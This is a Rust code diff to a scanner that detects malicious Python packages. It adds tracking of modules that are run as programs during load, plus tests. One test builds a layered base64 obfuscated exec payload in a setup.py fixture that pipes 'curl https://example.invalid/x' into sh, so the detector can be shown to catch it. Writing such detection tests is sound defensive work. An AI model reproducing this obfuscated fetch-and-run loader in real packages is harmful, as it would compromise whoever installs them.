@@ -69,6 +69,9 @@ pub struct Facts {
     pub external_calls: Vec<String>,
     /// Modules imported at the top level, relative ones with their leading dots.
     pub top_level_imports: Vec<String>,
+    /// Modules and scripts this file starts as programs while loading (`python -m pkg.mod`,
+    /// `python helper.py`), as dotted module names.
+    pub runs_as_program: Vec<String>,
 }
 
 /// A Python payload found while folding, to be analysed as its own layer.
@@ -99,6 +102,8 @@ pub struct Checker<'s> {
     layer_context: Option<ExecContext>,
     /// Context of the module's top level when another file imports it (setup.py → install).
     imported_context: Option<ExecContext>,
+    /// Another file starts this module as a program, so its `__main__` block runs too.
+    run_as_program: bool,
     /// Functions that another module calls while it loads, and the context it loads in.
     seeds: Vec<String>,
     seed_context: Option<ExecContext>,
@@ -166,6 +171,7 @@ impl<'s> Checker<'s> {
             role,
             layer_context,
             imported_context: None,
+            run_as_program: false,
             seeds: Vec::new(),
             seed_context: None,
             scopes: Scopes::default(),
@@ -205,9 +211,11 @@ impl<'s> Checker<'s> {
                 .find(|l| !l.is_empty());
             self.facts.docstring = line.map(|l| crate::text::shorten(l, 160));
         }
-        self.eager_functions = crate::eager::functions_run_at_load(body, &self.seeds);
+        self.eager_functions =
+            crate::eager::functions_run_at_load(body, &self.seeds, self.run_as_program);
         self.facts.defined_functions = crate::eager::defined_functions(body);
-        self.facts.external_calls = crate::eager::external_calls(body);
+        self.facts.external_calls =
+            crate::eager::external_calls(body, self.role == FileRole::Setup);
         for stmt in body {
             if let Stmt::FunctionDef(function) = stmt
                 && self.functions.len() < 4_096
@@ -239,6 +247,27 @@ impl<'s> Checker<'s> {
         self.imported_context = Some(context);
     }
 
+    /// Declares that a file running in `context` starts this module as a program.
+    pub fn run_as_program_in(&mut self, context: ExecContext) {
+        self.imported_context = Some(context);
+        self.run_as_program = true;
+    }
+
+    /// Records a module or script that a spawned command runs as a program while this file
+    /// loads, so the cross-file pass can give it this file's context.
+    pub fn note_program(&mut self, command: &str) {
+        if !matches!(self.context(), ExecContext::Install | ExecContext::Import) {
+            return;
+        }
+        for module in programs_in_command(command) {
+            if self.facts.runs_as_program.len() < 64
+                && !self.facts.runs_as_program.contains(&module)
+            {
+                self.facts.runs_as_program.push(module);
+            }
+        }
+    }
+
     /// Declares functions that another module calls while loading, in context `context`.
     pub fn seed(&mut self, functions: Vec<String>, context: ExecContext) {
         self.seeds = functions;
@@ -251,6 +280,7 @@ impl<'s> Checker<'s> {
             return context;
         }
         if self.main_guard_depth > 0
+            && !self.run_as_program
             && !matches!(self.role, FileRole::Setup | FileRole::Pth)
             && self.layer_context.is_none()
         {
@@ -752,6 +782,36 @@ struct ParamBinding {
     interesting: bool,
 }
 
+/// Python modules a command line runs: `python -m pkg.mod` gives `pkg.mod`, `python3
+/// pkg/helper.py` gives `pkg.helper`.
+fn programs_in_command(command: &str) -> Vec<String> {
+    let words: Vec<&str> = command
+        .split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ',' | '[' | ']' | '(' | ')'))
+        .filter(|w| !w.is_empty())
+        .collect();
+    let mut modules = Vec::new();
+    for (index, word) in words.iter().enumerate() {
+        let is_module_name = |w: &str| {
+            !w.is_empty()
+                && w.split('.')
+                    .all(|p| !p.is_empty() && p.chars().all(|c| c.is_alphanumeric() || c == '_'))
+        };
+        if *word == "-m"
+            && let Some(module) = words.get(index + 1).filter(|w| is_module_name(w))
+        {
+            modules.push((*module).to_owned());
+        } else if let Some(script) = word.strip_suffix(".py")
+            && index > 0
+        {
+            let dotted = script.trim_start_matches("./").replace(['/', '\\'], ".");
+            if is_module_name(&dotted) {
+                modules.push(dotted);
+            }
+        }
+    }
+    modules
+}
+
 /// `chr(ord(c) ^ k)`, `chr(x - 3)`, `bytes(b ^ k for b in data)`: hand-rolled decryption. True
 /// when the expression calls `chr`/`bytes`/`bytearray` on arithmetic involving XOR or an offset.
 fn is_char_decryption(expr: &Expr) -> bool {
@@ -1144,5 +1204,52 @@ mod tests {
     fn module_name_passed_to_an_import_helper_is_not_obfuscation() {
         let code = "def vendored(name):\n    __import__(name, globals(), locals(), level=0)\nvendored('requests')\nvendored('os')\n";
         assert!(max_severity("p/pkg/__init__.py", code, "WH180") < 0.1);
+    }
+}
+
+#[cfg(test)]
+mod more_tests {
+    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+    use super::programs_in_command;
+    use crate::rules::testing::{findings, max_severity};
+
+    #[test]
+    fn programs_are_read_from_command_lines() {
+        assert_eq!(
+            programs_in_command("/usr/bin/python3 -m pkg.report --x"),
+            vec!["pkg.report"]
+        );
+        assert_eq!(
+            programs_in_command("[sys.executable, \"-m\", \"poc.mod\"]"),
+            vec!["poc.mod"]
+        );
+        assert_eq!(
+            programs_in_command("python3 ./pkg/helper.py"),
+            vec!["pkg.helper"]
+        );
+        assert!(programs_in_command("git describe --tags").is_empty());
+    }
+
+    #[test]
+    fn lambda_decoders_are_folded_through_every_layer() {
+        // Two layers: the outer exec's payload calls the same lambda again.
+        let inner = "import os\nos.system('curl https://example.invalid/x | sh')\n";
+        let inner_b64 = base64_encode(inner.as_bytes());
+        let middle = format!("exec(_(b'{inner_b64}'))\n");
+        let middle_b64 = base64_encode(middle.as_bytes());
+        let code =
+            format!("_ = lambda s: __import__('base64').b64decode(s)\nexec(_(b'{middle_b64}'))\n");
+        let found = findings("p/setup.py", &code);
+        assert!(
+            found.iter().any(|f| f.path.ends_with("#layer3")),
+            "{found:?}"
+        );
+        assert!(max_severity("p/setup.py", &code, "WH110") >= 0.9);
+        assert!(max_severity("p/setup.py", &code, "WH120") >= 0.9);
+    }
+
+    fn base64_encode(bytes: &[u8]) -> String {
+        use base64::Engine;
+        base64::engine::general_purpose::STANDARD.encode(bytes)
     }
 }
